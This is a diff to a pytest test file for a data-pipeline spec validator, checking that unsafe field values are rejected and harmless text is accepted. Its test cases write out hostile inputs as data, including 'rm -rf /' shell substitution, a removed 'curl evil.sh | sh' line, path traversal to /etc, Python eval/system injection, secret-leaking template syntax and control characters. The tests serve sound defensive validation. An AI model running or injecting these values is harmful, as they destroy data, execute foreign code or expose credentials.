@@ -62,7 +62,7 @@ def test_valid_spec_loads_and_round_trips(policy):
 
 
 def test_unknown_operator_lists_available(policy):
-    issues, text = issues_of(spec_with(stages__1__op="gopher_qualty@1"), policy)
+    issues, _ = issues_of(spec_with(stages__1__op="gopher_qualty@1"), policy)
     msg = issues["stages[1].steps[0].op"]
     assert "unknown operator 'gopher_qualty@1'" in msg and "gopher_quality@1" in msg and "normalize_text@1" in msg
 
@@ -126,19 +126,48 @@ def test_s3_location_allowed(policy):
 @pytest.mark.parametrize(
     "field, value, what",
     [
-        ("sources__0__glob", "$(rm -rf /)", "shell substitution"),
-        ("sources__0__description", "`curl evil.sh | sh`", "shell substitution"),
-        ("sources__0__text_field", "__import__('os').system('id')", "Python code"),
-        ("sources__0__description", "x; rm -rf /", "shell command"),
+        ("sources__0__glob", "$(rm -rf /)", "is not a file glob ('$', '(', ')')"),
+        ("sources__0__glob", "../../etc/*", "leaves the source's location"),
+        ("sources__0__glob", "/etc/*", "leaves the source's location"),
+        ("sources__0__text_field", "__import__('os').system('id')", "is not a record field name"),
+        ("sources__0__url_field", "eval(input())", "is not a record field name"),
         ("sources__0__description", "{{ env.SECRET }}", "template syntax"),
-        ("sources__0__url_field", "eval(input())", "Python code"),
+        ("sources__0__description", "cost: ${AWS_SECRET_ACCESS_KEY}", "template syntax"),
+        ("sources__0__description", "bell \x07 here", "control character"),
+        ("sources__0__description", "reviewed \u202eby security", "control character"),
+        ("sources__0__description", "x" * 4001, "too long"),
+        ("sources__0__location", "data/\x00a", "control character"),
+        ("stages__0__op", "normalize_text@1; rm -rf /", "is not an operator reference"),
     ],
 )
-def test_code_in_string_fields_rejected(policy, field, value, what):
+def test_strings_outside_their_type_are_rejected_naming_field_and_fix(policy, field, value, what):
     with pytest.raises(SpecError) as exc:
         load_spec(spec_with(**{field: value}), policy)
-    assert what in str(exc.value)
-    assert field.replace("__0__", "[0].") in str(exc.value)
+    where = field.replace("__0__", "[0].").replace("stages[0].op", "stages[0].steps[0].op")  # the one-step shorthand
+    issue = next(i for i in exc.value.issues if i.field == where)
+    assert what in issue.message
+    # the message says what the field takes instead
+    assert any(fix in issue.message for fix in ("use ", "write ", "shorten", "e.g.", "relative to it"))
+
+
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("sources__0__description", "the subprocess module docs"),
+        ("sources__0__glob", "**/__init__.py"),
+        ("sources__0__description", "code spans like `os.system` and `eval(x)` render as code"),
+        ("sources__0__description", "shell notes: $(date); x; rm -rf / is how the docs say it"),
+        ("sources__0__text_field", "content"),
+        ("sources__0__glob", "part-[0-9]*.jsonl.gz"),
+        ("stages__0__description", "import os, lambda x: x, __main__ and 3 < n > 2"),
+    ],
+)
+def test_harmless_text_is_accepted(policy, field, value):
+    data = spec_with(**{field: value})
+    spec = load_spec(data, policy)
+    assert spec_to_yaml(spec)  # loads and writes back
+    node = spec.sources[0] if field.startswith("sources") else spec.stages[0]
+    assert getattr(node, field.rsplit("__", 1)[1]) == value
 
 
 def test_code_in_operator_config_rejected(policy):
@@ -212,3 +241,66 @@ def test_repo_specs_are_valid(project_root):
     for path in sorted((project_root / "platform_assets" / "defs").glob("*/defs.yaml")):
         spec = load_spec_file(path, PathPolicy.default(project_root))
         assert spec.pipeline == path.parent.name
+
+
+def test_operator_config_strings_are_plain_text_not_code_checked(policy):
+    data = spec_with()
+    data["stages"][0] = {"name": "normalized", "op": "redact_pii@1", "config": {"email_replacement": "x; rm -rf /"}}
+    assert load_spec(data, policy).stages[0].steps[0].config["email_replacement"] == "x; rm -rf /"
+    data["stages"][0]["config"] = {"email_replacement": "x\x1b[2J"}
+    issues, _ = issues_of(data, policy)
+    assert "control character" in issues["stages[0].steps[0].config.email_replacement"]
+    assert not issues["stages[0].steps[0].config.email_replacement"].startswith("Value error")
+    data["stages"][0] = {
+        "name": "normalized",
+        "op": "datatrove_step@1",
+        "config": {"step": "GopherQualityFilter", "args": {"stop_words": ["the", "{{ x }}"]}},
+    }
+    issues, _ = issues_of(data, policy)
+    assert "stop_words[1]: looks like template syntax" in issues["stages[0].steps[0].config.args"]
+
+
+def test_operator_config_field_names_have_their_type(policy):
+    data = spec_with()
+    data["stages"][0] = {
+        "name": "normalized",
+        "op": "decontaminate@1",
+        "config": {"eval_sets": [{"name": "e", "path": "data/e.jsonl", "fields": ["q", "a'); import os"]}]},
+    }
+    issues, _ = issues_of(data, policy)
+    assert "is not a record field name" in issues["stages[0].steps[0].config.eval_sets[0].fields[1]"]
+
+
+def test_every_cycle_is_reported_and_inputs_name_stages_only(policy):
+    data = spec_with()
+    data["stages"] = [
+        {"name": "a", "op": "normalize_text@1", "input": "b"},
+        {"name": "b", "op": "normalize_text@1", "input": "a"},
+        {"name": "c", "op": "normalize_text@1", "input": "d"},
+        {"name": "d", "op": "dedup_minhash@1", "input": "c"},
+        {"name": "e", "op": "normalize_text@1", "input": "d_index"},
+        {"name": "f", "op": "normalize_text@1", "input": "tokenizer"},
+    ]
+    issues, _ = issues_of(data, policy)
+    assert issues["stages[0].input"] == "cycle: a -> b -> a" and issues["stages[1].input"] == "cycle: b -> a -> b"
+    assert issues["stages[2].input"] == "cycle: c -> d -> c" and issues["stages[3].input"] == "cycle: d -> c -> d"
+    assert issues["stages[4].input"].startswith("unknown dependency 'd_index'; stages: raw, a, b, c, d, e, f")
+    assert issues["stages[5].input"].startswith("unknown dependency 'tokenizer'")
+
+
+def test_template_syntax_in_a_spec_file_is_refused(policy, tmp_path):
+    path = tmp_path / "defs.yaml"
+    path.write_text(
+        "type: platform_assets.components.PipelineComponent\nattributes:\n  pipeline: t\n"
+        "  sources: [{name: a, location: data/a, format: jsonl, glob: '${GLOB}'}]\n"
+    )
+    with pytest.raises(SpecError) as exc:
+        load_spec_file(path, policy)
+    assert [i.field for i in exc.value.issues] == ["attributes.sources[0].glob"]
+    assert "template syntax" in exc.value.issues[0].message
+
+
+@pytest.mark.parametrize("fields, what", [([], "at least 1 item"), (["t"] * 17, "at most 16 items")])
+def test_text_field_lists_are_bounded(policy, fields, what):
+    issues, _ = issues_of(spec_with(sources__0__text_field=fields), policy)
+    assert what in issues["sources[0].text_field"]
